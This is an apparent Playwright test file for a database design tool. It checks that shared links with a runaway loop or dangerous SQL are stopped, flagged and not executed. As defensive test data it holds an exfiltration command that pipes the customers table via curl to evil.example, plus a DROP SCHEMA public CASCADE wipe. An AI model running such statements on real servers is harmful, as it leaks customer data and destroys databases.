import { exampleDocument, type DesignDocument } from '../src/core/model';
import { shareLink } from '../src/core/share';
import { test, expect } from './fixtures';

/** A link made by the studio's own codec, for a design whose verbatim extras hold `sql`. */
function linkWith(baseURL: string | undefined, extras: { id: string; sql: string }[]): string {
  const doc: DesignDocument = exampleDocument();
  doc.design.extras = [
    ...doc.design.extras,
    ...extras.map((x) => ({ ...x, kind: 'other' as const, name: x.id, dependsOn: [] })),
  ];
  return shareLink(`${baseURL ?? 'http://127.0.0.1:4173'}/`, doc);
}

test('a link whose design loops forever opens, names that statement, and the status settles', async ({
  page,
  baseURL,
}) => {
  await page.goto(
    linkWith(baseURL, [{ id: 'x_forever', sql: 'DO $$ BEGIN LOOP END LOOP; END $$;' }]),
  );
  const status = page.getByRole('status', { name: /Postgres status/ });
  // The verbatim statement gets 15 s, then the worker is replaced once and the rest is checked.
  await expect(status).toHaveAccessibleName('Postgres status: 1 error', { timeout: 100_000 });
  await page.getByRole('tab', { name: 'Problems' }).click();
  const problems = page.getByRole('list', { name: 'Problems' });
  await expect(problems).toContainText('This statement did not finish and was stopped');
  await expect(problems).toContainText('DO $$ BEGIN LOOP END LOOP; END $$;');
  await expect(problems).toContainText(/DDL line \d+/);
  // Nobody ran a query: no notice says one was stopped.
  await expect(page.getByText('Postgres was stopped and restarted')).toHaveCount(0);
  // The rest of the design was checked: its tables are in the database.
  await page.getByRole('tab', { name: 'SQL console' }).click();
  const console = page.getByRole('region', { name: 'SQL console' });
  await console.getByLabel('SQL to run').click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.type('SELECT count(*) AS n FROM customers');
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(console.getByRole('table').first()).toContainText('0', { timeout: 30_000 });
  // And the check is not re-run in a loop: the status still names the one error.
  await expect(status).toHaveAccessibleName('Postgres status: 1 error');
});

test('a link with COPY … TO PROGRAM shows the warning, and the statement is not run', async ({
  page,
  baseURL,
}) => {
  await page.goto(
    linkWith(baseURL, [
      { id: 'x_exfil', sql: "COPY customers TO PROGRAM 'curl -T - https://evil.example/loot';" },
      { id: 'x_wipe', sql: 'DROP SCHEMA public CASCADE;' },
    ]),
  );
  const status = page.getByRole('status', { name: /Postgres status/ });
  await expect(status).toHaveAccessibleName('Postgres status: 2 errors', { timeout: 60_000 });
  await page.getByRole('tab', { name: 'Problems' }).click();
  const problems = page.getByRole('list', { name: 'Problems' });
  await expect(problems.getByRole('listitem').filter({ hasText: 'TO PROGRAM' })).toContainText(
    'Not run: dangerous on a real server. COPY … TO PROGRAM runs a shell command',
  );
  await expect(
    problems.getByRole('listitem').filter({ hasText: 'DROP SCHEMA public CASCADE' }),
  ).toContainText('deletes a schema and everything in it');

  // Not run: the design's tables are still there (DROP SCHEMA public CASCADE would have removed them).
  await page.getByRole('tab', { name: 'SQL console' }).click();
  const console = page.getByRole('region', { name: 'SQL console' });
  const run = async (sql: string) => {
    await console.getByLabel('SQL to run').click();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type(sql);
    await page.keyboard.press('ControlOrMeta+Enter');
  };
  await run(
    "SELECT (count(*) > 0)::text AS tables_kept FROM pg_tables WHERE schemaname = 'public' AND tablename = 'customers'",
  );
  await expect(console.getByRole('table').first()).toContainText('true');

  // In the console, COPY … PROGRAM is refused, and the next query still answers with rows.
  await run("COPY customers TO PROGRAM 'id'");
  await expect(console).toContainText('COPY … PROGRAM is not run');
  await run('SELECT 41 + 1 AS answer');
  await expect(console.getByRole('table').first()).toContainText('42');

  // The export says it, in the dialog and at the top of the SQL file (as SQL comments).
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Export' });
  await expect(dialog.getByRole('alert')).toContainText('2 statements that act beyond the schema');
  const preview = dialog.getByLabel(/preview/);
  await expect(preview).toContainText(
    '-- WARNING: this script contains statements that act beyond the schema',
  );
  const text = (await preview.textContent()) ?? '';
  expect(text.indexOf('-- WARNING')).toBe(0);
  expect(text).toMatch(/--\s+COPY customers TO PROGRAM/);
});
